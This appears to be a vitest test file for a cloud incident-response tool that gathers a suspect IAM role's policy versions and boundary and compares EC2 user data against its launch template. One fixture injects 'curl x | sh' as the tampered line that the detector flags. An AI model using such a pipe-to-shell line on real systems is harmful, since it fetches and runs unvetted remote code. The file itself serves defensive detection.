import { ADMINISTRATOR_ACCESS, addLaunchTemplate, addManagedPolicy, addRole } from '@cordon/testkit';
import { describe, expect, it } from 'vitest';
import { type SuspectOptions, type SuspectWorld, suspectWorld } from '../../world/suspect-world.js';
import { everythingThere, observed, run } from './scene.js';

const NARROW = {
  Version: '2012-10-17',
  Statement: [{ Effect: 'Allow' as const, Action: 's3:GetObject', Resource: '*' }],
};
const base64 = (text: string) => Buffer.from(text).toString('base64');
const json = (world: SuspectWorld, file: string) =>
  JSON.parse(world.evidence.text(`control-plane/${file}`) ?? 'null');

describe('the policies of the role', () => {
  it('are kept with every version, decoded', async () => {
    const world = suspectWorld();
    world.role.attached.push(addManagedPolicy(world.account, 'shop', ADMINISTRATOR_ACCESS, NARROW));
    await run(world);
    expect(json(world, 'role-attached-policies.json')).toMatchObject([
      {
        PolicyName: 'shop',
        DefaultVersionId: 'v2',
        versions: [
          { VersionId: 'v2', IsDefaultVersion: true, document: NARROW },
          { VersionId: 'v1', IsDefaultVersion: false, document: ADMINISTRATOR_ACCESS },
        ],
      },
    ]);
    expect(json(world, 'role-inline-policies.json')).toEqual([
      { name: 'all', document: JSON.parse(JSON.stringify(ADMINISTRATOR_ACCESS)) },
    ]);
  });

  it('come with the boundary, and with who may assume it', async () => {
    const world = suspectWorld();
    const boundary = addManagedPolicy(world.account, 'limit', NARROW);
    addRole(world.account, { name: 'shop-frontend', policies: {}, boundary });
    await run(world);
    expect(json(world, 'role-boundary.json')).toMatchObject({
      PolicyName: 'limit',
      versions: [{ document: NARROW }],
    });
    expect(json(world, 'role.json').AssumeRolePolicyDocument.Statement[0].Principal).toEqual({
      Service: 'ec2.amazonaws.com',
    });
  });

  it('are more than one page', async () => {
    const world = suspectWorld({ pageSize: 2 });
    for (const name of ['a', 'b', 'c', 'd', 'e'])
      world.role.attached.push(addManagedPolicy(world.account, name, NARROW));
    await run(world);
    expect(json(world, 'role-attached-policies.json')).toHaveLength(5);
  });
});

const TEMPLATE = 'lt-0123456789abcdef0';

async function compared(userData: string, template: string, options: SuspectOptions = {}) {
  const world = suspectWorld({
    ...options,
    instance: {
      userData: base64(userData),
      tags: { 'aws:ec2launchtemplate:id': TEMPLATE, 'aws:ec2launchtemplate:version': '1' },
    },
  });
  addLaunchTemplate(world.region, {
    id: TEMPLATE,
    name: 'shop',
    versions: [{ UserData: base64(template) }, { UserData: base64('#!/bin/sh\nnewer\n') }],
  });
  const { incidentId } = await run(world);
  return { comparison: json(world, 'user-data-comparison.json'), seen: await observed(world, incidentId) };
}

describe('user data against the launch template', () => {
  it('is compared with the version that the instance was launched from', async () => {
    const { comparison, seen } = await compared('#!/bin/sh\nstart shop\n', '#!/bin/sh\nstart shop\n');
    expect(comparison).toMatchObject({ same: true, template: { id: TEMPLATE, version: '1' } });
    expect(seen).toEqual([]);
  });

  it('is an observation when it differs, with the lines', async () => {
    const { comparison, seen } = await compared(
      '#!/bin/sh\nstart shop\ncurl x | sh\n',
      '#!/bin/sh\nstart shop\n',
    );
    expect(comparison).toMatchObject({ same: false, onlyInInstance: ['curl x | sh'], onlyInTemplate: [] });
    expect(seen).toEqual([
      expect.objectContaining({
        rule: 'user-data.differs',
        severity: 'medium',
        evidence: [{ artifact: 'control-plane/user-data-comparison.json' }],
      }),
    ]);
  });

  it('is no gap when the template is gone', async () => {
    const world = suspectWorld({
      instance: { tags: { 'aws:ec2launchtemplate:id': 'lt-0ffffffffffffffff' } },
    });
    await run(world);
    expect(world.evidence.paths()).not.toContain('control-plane/user-data-comparison.json');
  });
});

describe('the step', () => {
  it('shows the role’s use in a fact that stays small, whatever the role did', async () => {
    const world = await everythingThere();
    const { roleCalled } = await import('./scene.js');
    for (let index = 0; index < 400; index += 1)
      roleCalled(world, {
        service: 'ec2',
        name: `Call${'x'.repeat(100)}${index}`,
        sourceAddress: `203.0.113.${index % 250}`,
      });
    const { incidentId } = await run(world);
    const entries = await (await world.journal.visit(incidentId)).read();
    const facts = entries.flatMap((entry) => (entry.kind === 'succeeded' ? [entry.body.facts] : []));
    const { controlPlane } = facts.find((one) => 'controlPlane' in one) as {
      controlPlane: { roleUse: object };
    };
    expect(controlPlane.roleUse).toMatchObject({ distinct: { calls: 401 } });
    expect(JSON.stringify(controlPlane).length).toBeLessThan(16_000);
  });
});
